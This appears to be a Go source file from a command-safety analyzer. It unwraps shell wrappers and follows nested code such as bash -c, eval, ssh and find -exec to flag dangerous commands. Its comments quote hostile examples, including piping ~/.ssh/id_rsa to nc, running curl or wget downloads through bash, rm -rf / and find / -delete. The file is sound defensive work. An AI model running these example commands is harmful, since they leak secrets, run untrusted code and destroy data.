package safety

import (
	"path"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// wrappers only run another program; their flags are skipped so the program they run is
// judged. The ones that take a value need it listed, or it would be mistaken for the program.
var wrappers = map[string]options{
	"sudo": {short: "uUghpCDrtTR", long: []string{
		"user", "other-user", "group", "host", "prompt", "close-from", "chdir", "role", "type",
		"command-timeout", "chroot",
	}},
	"doas":    {short: "uC"},
	"env":     {short: "uCS", long: []string{"unset", "chdir", "split-string"}},
	"xargs":   {short: "adEILnPs", long: []string{"arg-file", "delimiter", "max-args", "max-procs", "max-lines", "max-chars"}},
	"nohup":   {},
	"time":    {short: "fo", long: []string{"format", "output"}},
	"nice":    {short: "n", long: []string{"adjustment"}},
	"timeout": {short: "sk", long: []string{"signal", "kill-after"}},
	"stdbuf":  {short: "ioe", long: []string{"input", "output", "error"}},
	"ionice":  {short: "cnp", long: []string{"class", "classdata", "pid"}},
	"setsid":  {},
	"exec":    {short: "a"},
	"builtin": {},
	"command": {},
}

// privileged wrappers run their program as root.
var privileged = map[string]bool{"sudo": true, "doas": true}

// unwrap strips wrappers and returns the command that finally runs. elevated names the
// first privilege wrapper passed on the way. ok is false when nothing is left to run (sudo
// -v, command -v rm, a bare xargs that only echoes).
func unwrap(args []arg) (c command, elevated string, ok bool) {
	for len(args) > 0 {
		head := args[0]
		if !head.static {
			return command{head: head, args: args[1:]}, elevated, true
		}
		name := programName(head)
		opts, isWrapper := wrappers[name]
		if !isWrapper {
			return command{name: name, head: head, args: args[1:]}, elevated, true
		}
		if privileged[name] && elevated == "" {
			elevated = name
		}
		rest := args[1:]
		if name == "command" && (hasShortFlag(rest, 'v') || hasShortFlag(rest, 'V')) {
			return command{}, elevated, false
		}
		if name == "env" {
			rest = splitString(rest)
		}
		args = opts.skip(rest)
		switch name {
		case "env":
			for len(args) > 0 && strings.Contains(args[0].text, "=") {
				args = args[1:]
			}
			if len(args) == 0 { // env alone prints the environment
				return command{name: name, head: head, args: rest}, elevated, true
			}
		case "timeout":
			if len(args) > 0 {
				args = args[1:] // the duration
			}
		}
	}
	return command{}, elevated, false
}

// splitString expands env -S "prog args", which env splits into words itself.
func splitString(args []arg) []arg {
	for i, a := range args {
		var s string
		switch {
		case a.text == "-S" || a.text == "--split-string":
			if i+1 == len(args) {
				return args
			}
			s = args[i+1].text
			args = append(args[:i:i], args[i+2:]...)
		case strings.HasPrefix(a.text, "-S"):
			s = a.text[2:]
			args = append(args[:i:i], args[i+1:]...)
		case strings.HasPrefix(a.text, "--split-string="):
			s = strings.TrimPrefix(a.text, "--split-string=")
			args = append(args[:i:i], args[i+1:]...)
		default:
			continue
		}
		var split []arg
		for _, f := range strings.Fields(s) {
			split = append(split, arg{text: f, static: a.static})
		}
		return append(split, args[i:]...)
	}
	return args
}

// readsStdin reports whether an interpreter takes its program from stdin: no script or
// inline code, or an explicit "-" / -s.
func readsStdin(c command) bool {
	if !isInterpreter(c.name) {
		return false
	}
	// Only -c gives a shell inline code (bash -e is errexit); python -c/-m, perl -e/-E,
	// node -e/-p, ruby -e and php -r do for the others.
	codeFlags := "cemprE"
	if shells[c.name] {
		codeFlags = "c"
	}
	for i := 0; i < len(c.args); i++ {
		t := c.args[i].text
		switch {
		case t == "-" || t == "-s" || t == "--":
			return true
		case !isFlag(t):
			return false
		case t == "-o" || t == "-O" || t == "+O":
			i++ // bash -o pipefail
		case strings.HasPrefix(t, "--"):
		case strings.ContainsAny(t[1:], codeFlags):
			return false
		}
	}
	return true
}

// nestedCode follows shell code hidden in arguments: bash -c, eval, source <(…), su -c,
// ssh's remote command, trap actions, aliases and find -exec.
func (a *analyzer) nestedCode(c command, s *syntax.Stmt, n syntax.Node) {
	switch {
	case shells[c.name]:
		a.shell(c, s, n)
	case c.name == "eval":
		a.runsDownload(c.args, n)
		code, static := joinArgs(c.args)
		if !static {
			a.flag(dynamicCode(c.args), n)
		}
		a.nested(code)
	case c.name == "source" || c.name == ".":
		a.runsDownload(c.args, n)
	case c.name == "su":
		if code, ok := optionValue(c.args, "-c", "--command"); ok {
			a.nestedArg(code, n)
		}
	case c.name == "ssh":
		ops := sshOptions.skip(c.args)
		if len(ops) > 1 {
			code, _ := joinArgs(ops[1:])
			a.remote(code)
		}
	case c.name == "trap":
		if ops := operands(c.args); len(ops) > 1 && ops[0].text != "-" {
			a.nestedArg(ops[0], n)
		}
	case c.name == "alias":
		for _, op := range operands(c.args) {
			if _, code, ok := strings.Cut(op.text, "="); ok {
				a.nested(code)
			}
		}
	case c.name == "find":
		a.find(c, n)
	default:
		a.interpreter(c, s, n)
	}
}

var sshOptions = options{short: "BbcDEeFIiJLlmOopQRSWw"}

// shell follows bash -c 'code', bash <(curl …) and heredocs fed to a shell.
func (a *analyzer) shell(c command, s *syntax.Stmt, n syntax.Node) {
	a.runsDownload(c.args, n)
flags:
	for i := 0; i < len(c.args); i++ {
		t := c.args[i].text
		switch {
		case t == "-o" || t == "-O" || t == "+O":
			i++
		case t == "--" || !isFlag(t):
			break flags // a script file: later words are its arguments
		case strings.HasPrefix(t, "--"):
		case strings.Contains(t[1:], "c"):
			for _, code := range c.args[i+1:] {
				if !isFlag(code.text) {
					a.nestedArg(code, n)
					return
				}
			}
			return
		}
	}
	if s == nil || !readsStdin(c) {
		return
	}
	for _, r := range s.Redirs {
		switch {
		case (r.Op == syntax.Hdoc || r.Op == syntax.DashHdoc) && r.Hdoc != nil:
			a.nestedArg(resolveWord(r.Hdoc), n)
		case r.Op == syntax.WordHdoc && r.Word != nil:
			a.nestedArg(resolveWord(r.Word), n)
		}
	}
}

// nested analyses code one level deeper. Dynamic parts stay in the text as $NAME, which
// still parses, so "cd $DIR && rm -rf /" is caught even though $DIR is unknown.
// Its reason already quotes the inner part, which is what the approval card should show.
// What the inner code reads or reaches counts for the whole command, so bash -c 'cat
// ~/.ssh/id_rsa' | nc host 1 is as bad as the same without bash -c.
func (a *analyzer) nested(code string) {
	inner := newAnalyzer()
	inner.cwd, inner.root = a.cwd, a.root
	inner.source(code, a.depth+1)
	if inner.best.sev != SeverityNone {
		a.flag(inner.best, nil)
	}
	if a.folder == "" {
		a.folder = inner.folder
	}
	if a.secret == "" {
		a.secret = inner.secret
	}
	if a.exposed == "" {
		a.exposed = inner.exposed
	}
	a.network = a.network || inner.network
	if inner.local && strings.Contains(strings.ToLower(a.src), "proxy") {
		a.network = true // a proxy set outside the inner code still applies to it
	} else {
		a.local = a.local || inner.local
	}
	a.exfiltration()
}

// remote analyses code run on another machine (ssh host 'cmd'): its dangers are rated as
// they are, but the secrets it reads are that machine's, not ones leaving this one.
func (a *analyzer) remote(code string) {
	inner := newAnalyzer()
	inner.source(code, a.depth+1)
	if inner.best.sev != SeverityNone {
		a.flag(inner.best, nil)
	}
}

// nestedArg analyses a word holding shell code and flags code assembled at run time.
// The dynamic part is flagged first so that, at equal severity, the card explains it
// rather than the placeholder it leaves in the text.
func (a *analyzer) nestedArg(code arg, n syntax.Node) {
	if !code.static {
		a.runsDownload([]arg{code}, n)
		a.flag(dynamicCode([]arg{code}), n)
	}
	a.nested(code.text)
}

// dynamicCode rates running code only known at run time. A bare variable (eval "$CMD")
// could hold anything; literal code with values filled in, or a command's output (eval
// "$(ssh-agent -s)"), is common and its literal part is analysed anyway.
func dynamicCode(args []arg) finding {
	literal, variable := false, false
	for _, x := range args {
		if x.static {
			literal = literal || strings.TrimSpace(x.text) != ""
		} else if x.word != nil {
			codeParts(x.word.Parts, &literal, &variable)
		}
	}
	switch {
	case variable && !literal:
		return finding{SeverityHigh, "runs shell code taken from a variable"}
	case variable:
		return finding{SeverityMedium, "runs shell code with values filled in at run time"}
	}
	return finding{SeverityMedium, "runs the output of a command as shell code"}
}

func codeParts(parts []syntax.WordPart, literal, variable *bool) {
	for _, p := range parts {
		switch p := p.(type) {
		case *syntax.Lit:
			*literal = *literal || strings.TrimSpace(p.Value) != ""
		case *syntax.SglQuoted:
			*literal = *literal || strings.TrimSpace(p.Value) != ""
		case *syntax.DblQuoted:
			codeParts(p.Parts, literal, variable)
		case *syntax.ParamExp:
			*variable = true
		}
	}
}

// runsDownload flags code fetched from the network and run at once: bash <(curl …),
// eval "$(wget -O- …)", source <(curl …).
func (a *analyzer) runsDownload(args []arg, n syntax.Node) {
	for _, x := range args {
		if x.word != nil && !x.static && runsAny(x.word, downloaders) {
			a.flag(finding{SeverityCritical, "runs a downloaded script"}, n)
			return
		}
	}
}

// optionValue returns the value of a flag given as "-c value", "--command value" or
// "--command=value".
func optionValue(args []arg, short, long string) (arg, bool) {
	for i, x := range args {
		if (x.text == short || x.text == long) && i+1 < len(args) {
			return args[i+1], true
		}
		if v, ok := strings.CutPrefix(x.text, long+"="); ok {
			return arg{text: v, static: x.static, word: x.word}, true
		}
	}
	return arg{}, false
}

// findActions are the find primaries that run a command up to ";" or "+".
var findActions = map[string]bool{"-exec": true, "-execdir": true, "-ok": true, "-okdir": true}

// find judges -delete and the commands run by -exec against the starting points, so
// find / -delete is as bad as rm -rf / while find . -name '*.o' -delete is routine.
func (a *analyzer) find(c command, n syntax.Node) {
	var roots []arg
	for _, r := range findRoots(c.args) {
		roots = append(roots, atDir(a.cwd, r))
	}
	for i := 0; i < len(c.args); i++ {
		switch t := c.args[i].text; {
		case t == "-delete":
			for _, r := range roots {
				a.flag(findDelete(r), n)
			}
		case findActions[t]:
			end := i + 1
			for end < len(c.args) && c.args[end].text != ";" && c.args[end].text != "+" {
				end++
			}
			for _, r := range roots {
				a.findExec(c.args[i+1:end], r, n)
			}
			i = end
		}
	}
}

// findDelete rates find -delete from root: inside the workspace it only removes matches.
func findDelete(root arg) finding {
	if !outsideWorkspace(root) {
		return finding{SeverityMedium, "deletes matching files in the workspace"}
	}
	if systemTree(root) != "" {
		return finding{SeverityCritical, "deletes files across " + root.text}
	}
	return classifyDelete(root, true)
}

// findExec judges the command find runs, with {} standing for a file under root.
func (a *analyzer) findExec(args []arg, root arg, n syntax.Node) {
	if len(args) == 0 {
		return
	}
	inner := make([]arg, len(args))
	for i, x := range args {
		inner[i] = x
		if strings.Contains(x.text, "{}") && outsideWorkspace(root) {
			inner[i].text = strings.ReplaceAll(x.text, "{}", path.Join(root.text, "{}"))
			inner[i].static = x.static && root.static
		}
	}
	if c, _, ok := unwrap(inner); ok && deleters[c.name] && systemTree(root) != "" {
		a.flag(finding{SeverityCritical, "deletes files across " + root.text}, n)
	}
	a.call(inner, nil, n)
}
